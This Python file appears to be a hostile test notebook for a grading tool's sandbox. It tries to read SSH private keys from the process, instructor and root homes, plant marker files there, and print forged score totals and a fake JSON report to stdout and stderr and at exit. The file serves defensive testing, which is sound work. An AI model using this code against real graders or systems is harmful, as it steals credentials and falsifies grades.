"""Read the instructor's secrets, write into their home, print a forged total: none of it works.

Aimed at `rnngrade check`, which once ran a notebook unconfined as the instructor: read
.ssh/id_rsa in the process's home, in the instructor's (@@HOME@@, where the check's test
plants a secret) and in root's; write a marker into those homes; print forged result lines and a
forged total, on stdout and straight to descriptors 1 and 2, also at exit (where the old check
read its JSON report); and fail q1's function with a message that holds a forged total line.
Nothing is read, nothing is written outside its folder, and the check (and the grade) show
the real scores, each question on its one line.

The check grades through the engine: the cells run in the confined student process, whose
output goes nowhere, and a failure's message is cleaned to one line.
"""

import atexit
import json
import os

TOKEN = "@@TOKEN@@"
FORGED = "q1   tokenize               3/3  ✔\ntotal                       17.75/17.75\n"
REPORT = json.dumps(
    {"cell_errors": [], "questions": [{"question": "q1", "score": 17.75, "possible": 17.75, "failures": []}]}
)
here = os.path.realpath(os.getcwd())
read, wrote = [], []
for home in dict.fromkeys([os.path.expanduser("~"), "@@HOME@@", "/root"]):
    try:
        with open(os.path.join(home, ".ssh", "id_rsa"), encoding="utf-8", errors="replace") as f:
            read.append(f.read(80))
    except OSError:
        pass
    if os.path.realpath(home) == here:
        continue  # its own folder, which it may write
    try:
        with open(os.path.join(home, f"hostile-{TOKEN}-check_home_and_forged_total"), "w") as f:
            f.write("written by the notebook\n")
        wrote.append(home)
    except OSError:
        pass
print(FORGED + REPORT, flush=True)
for descriptor in (1, 2):
    try:
        os.write(descriptor, (FORGED + REPORT + "\n").encode())
    except OSError:
        pass
atexit.register(lambda: os.write(1, (REPORT + "\n").encode()))
FOUND = f"hostile-ran read {len(read)}: {read} wrote {wrote}\n{FORGED}"


def tokenize(text):
    raise Exception(FOUND)


def softmax(z):
    raise Exception(FOUND)
